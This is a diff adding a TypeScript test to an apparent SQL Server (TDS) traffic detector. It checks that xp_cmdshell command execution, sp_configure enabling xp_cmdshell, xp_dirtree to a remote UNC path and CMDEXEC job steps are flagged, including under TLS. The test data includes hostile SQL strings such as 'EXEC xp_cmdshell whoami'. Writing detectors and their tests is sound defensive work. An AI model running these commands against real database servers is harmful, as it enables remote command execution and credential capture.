@@ -63,3 +63,37 @@ test('tds: how the server answers a login in the clear is noticed', () => {
   assert.deepEqual(answered('ab 0400 00000000 ad 0100 00'), ['tds.login-granted']);
   assert.deepEqual(answered('aa 0600 01000000 0000'), []);
 });
+
+test('tds: commands to the server itself are noticed, in batches and calls, behind a login under TLS too; nothing of them is kept', () => {
+  const headers = '16000000 12000000 0200 0000000000000000 01000000';
+  const said = (text: string, answer: string, before: Sample['messages'] = []): ReturnType<typeof play> =>
+    play(tds, {
+      ...session,
+      messages: [
+        ...session.messages.slice(0, 2),
+        ...before,
+        { from: 'client', bytes: packet('01', headers + wide(text)) },
+        { from: 'server', bytes: packet('04', answer) },
+      ],
+    });
+  const [done, error] = ['fd 0000 0000 0000000000000000', 'aa 0c00 b13b0000 01 10 0000 00 00 01000000'];
+  const sealed: Sample['messages'] = [
+    { from: 'client', bytes: `170303 0010 ${'ab'.repeat(16)}`.replaceAll(' ', '') },
+    { from: 'server', bytes: packet('04', `ad 0200 0000 ${done}`) },
+  ];
+  const run = ['tds.command-run', 'tds.command-run.granted'];
+  assert.deepEqual(said("EXEC master..XP_CmdShell 'whoami'", done).signals, run);
+  assert.deepEqual(said("EXEC xp_cmdshell 'whoami'", done, sealed).signals, run);
+  assert.deepEqual(said("EXEC xp_cmdshell 'whoami'", error).signals, ['tds.command-run', 'tds.command-run.refused']);
+  assert.deepEqual(said("exec sp_configure 'xp_cmdshell', 1", done).signals, ['tds.command-allowed']);
+  assert.deepEqual(said("exec xp_dirtree '\\\\10.9.0.5\\x'", done).signals, ['tds.remote-path']);
+  assert.deepEqual(said("exec sp_add_jobstep @subsystem = N'CMDEXEC'", done).signals, run);
+  for (const text of [
+    "select value from sys.configurations where name = 'xp_cmdshell'",
+    "exec xp_dirtree 'D:\\backup'",
+    "exec sp_add_jobstep @subsystem = N'TSQL'",
+    'select name from patients',
+  ])
+    assert.deepEqual(said(text, done).signals, [], text);
+  assert.ok(!JSON.stringify(said("EXEC xp_cmdshell 'whoami'", done)).includes('whoami'));
+});
